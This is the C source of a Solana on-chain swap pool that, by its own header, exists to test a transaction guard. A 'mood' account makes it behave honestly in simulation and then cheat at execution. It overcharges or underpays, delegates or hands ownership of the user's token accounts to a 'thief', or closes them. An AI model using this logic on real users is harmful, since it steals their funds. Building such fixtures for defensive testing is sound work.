// A constant-product pool that can be told to cheat, for the tests of the guard, in freestanding C for SBPFv3. It is deployed
// nowhere else. pool.so is this file, compiled by clang 16 and linked by settlement/onchain's linker.
//
// Accounts: wallet (signs), the wallet's account that pays, the account that is to get the proceeds, the pool's account of what
// is given, its account of what is sold, the pool's authority, the token program, the mood, the thief.
// Data: what is given, the least that is to be got, the bump of the authority, as 64-bit numbers.
// Mood: what to do besides, and a number; the test changes it between simulation and execution.

typedef unsigned char u8;
typedef unsigned int u32;
typedef unsigned long u64;

struct account {
	u8 *key;
	u64 *lamports;
	u64 size;
	u8 *data;
	u8 *owner;
	u64 rent_epoch;
	u8 signer, writable, executable;
};
struct meta {
	u8 *key;
	u8 writable, signer;
};
struct call {
	const u8 *program;
	struct meta *metas;
	u64 meta_count;
	const u8 *data;
	u64 size;
};
struct part {
	const u8 *at;
	u64 size;
};
struct seeds {
	const struct part *parts;
	u64 count;
};

extern u64 sol_invoke_signed_c(const struct call *call, const struct account *accounts, u64 count, const struct seeds *signers, u64 signer_count);

enum { WALLET, SOURCE, INTO, POOL_IN, POOL_OUT, AUTHORITY, TOKEN, MOOD, THIEF, ACCOUNTS };
enum { HONEST, GIVE_LESS, TAKE_MORE, APPROVE_SOURCE, OWN_SOURCE, APPROVE_INTO, OWN_INTO, CLOSE_INTO };
enum { WRONG_ACCOUNTS = 1, WRONG_DATA, TOO_LITTLE };

struct scratch {
	struct account accounts[ACCOUNTS];
	struct meta metas[3];
	struct call call;
	struct part parts[2];
	struct seeds signer;
	u64 words[6];
};
#define SCRATCH ((struct scratch *)0x300000000UL)

static const u8 NAME[4] = {'p', 'o', 'o', 'l'};

#define WORD(at, i) (((u64 *)(at))[i])

// times and over multiply and divide through 128 bits: out = y*d/(x+d), whose result is less than y.
static inline u64 product(u64 y, u64 d, u64 sum)
{
	u64 a = y >> 32, b = y & 0xffffffff, c = d >> 32, e = d & 0xffffffff;
	u64 middle = a * e + ((b * e) >> 32), low = b * c + (middle & 0xffffffff);
	u64 hi = a * c + (middle >> 32) + (low >> 32), lo = y * d, q = 0;
	for (int i = 0; i < 64; i++) {
		u64 top = hi >> 63;
		hi = hi << 1 | lo >> 63;
		lo <<= 1;
		q <<= 1;
		if (top || hi >= sum) {
			hi -= sum;
			q |= 1;
		}
	}
	return q;
}

// invoke calls the token program on up to three accounts, of which the last signs; the pool's authority by its seeds.
static inline u64 invoke(struct scratch *x, u64 first, u64 second, u64 third, u64 size)
{
	struct meta *m = x->metas;
	m[0].key = x->accounts[first].key;
	m[0].writable = 1;
	m[0].signer = 0;
	m[1].key = x->accounts[second].key;
	m[1].writable = second != THIEF && second != third;
	m[1].signer = second == third;
	m[2].key = x->accounts[third].key;
	m[2].writable = 0;
	m[2].signer = 1;
	x->call.program = x->accounts[TOKEN].key;
	x->call.metas = m;
	x->call.meta_count = second == third ? 2 : 3;
	x->call.data = (u8 *)x->words;
	x->call.size = size;
	x->signer.parts = x->parts;
	x->signer.count = 2;
	return sol_invoke_signed_c(&x->call, x->accounts, ACCOUNTS, &x->signer, 1);
}

// amount writes an instruction of a tag and units, unaligned.
static inline void amount(struct scratch *x, u64 tag, u64 units)
{
	x->words[0] = tag | units << 8;
	x->words[1] = units >> 56;
}

// give writes SetAuthority of a kind to the thief.
static inline void give(struct scratch *x, u64 kind)
{
	const u8 *key = x->accounts[THIEF].key;
	x->words[0] = 6 | kind << 8 | 1 << 16 | WORD(key, 0) << 24;
	x->words[1] = WORD(key, 0) >> 40 | WORD(key, 1) << 24;
	x->words[2] = WORD(key, 1) >> 40 | WORD(key, 2) << 24;
	x->words[3] = WORD(key, 2) >> 40 | WORD(key, 3) << 24;
	x->words[4] = WORD(key, 3) >> 40;
}

u64 entrypoint(u8 *input)
{
	struct scratch *x = SCRATCH;
	if (WORD(input, 0) != ACCOUNTS)
		return WRONG_ACCOUNTS;
	u8 *at = input + 8;
	for (struct account *a = x->accounts, *end = a + ACCOUNTS; a != end; a++) {
		if (at[0] != 0xff)
			return WRONG_ACCOUNTS;
		a->signer = at[1];
		a->writable = at[2];
		a->executable = at[3];
		a->key = at + 8;
		a->owner = at + 40;
		a->lamports = (u64 *)(at + 72);
		a->size = WORD(at, 10);
		a->data = at + 88;
		at += 88 + ((a->size + 7) & ~7UL) + 10240;
		a->rent_epoch = WORD(at, 0);
		at += 8;
	}
	if (WORD(at, 0) != 24 || x->accounts[MOOD].size != 16)
		return WRONG_DATA;
	const u64 *args = (u64 *)(at + 8);
	u64 mood = WORD(x->accounts[MOOD].data, 0), n = WORD(x->accounts[MOOD].data, 1), units = args[0];
	// The amount of a token account stands at byte 64.
	u64 have = WORD(x->accounts[POOL_IN].data, 8), sold = WORD(x->accounts[POOL_OUT].data, 8);
	u64 less = units * 9970 / 10000, out = product(sold, less, have + less);
	if (out < args[1])
		return TOO_LITTLE;
	x->parts[0].at = NAME;
	x->parts[0].size = sizeof NAME;
	x->parts[1].at = (const u8 *)(args + 2);
	x->parts[1].size = 1;

	amount(x, 3, mood == TAKE_MORE ? units + n : units);
	u64 bad = invoke(x, SOURCE, POOL_IN, WALLET, 9);
	if (bad)
		return bad;
	amount(x, 3, mood == GIVE_LESS ? out - n : out);
	bad = invoke(x, POOL_OUT, INTO, AUTHORITY, 9);
	if (bad || mood < APPROVE_SOURCE)
		return bad;
	u64 victim = mood == APPROVE_SOURCE || mood == OWN_SOURCE ? SOURCE : INTO;
	if (mood == APPROVE_SOURCE || mood == APPROVE_INTO) {
		amount(x, 4, n);
		return invoke(x, victim, THIEF, WALLET, 9);
	}
	give(x, mood == CLOSE_INTO ? 3 : 2);
	return invoke(x, victim, WALLET, WALLET, 35);
}
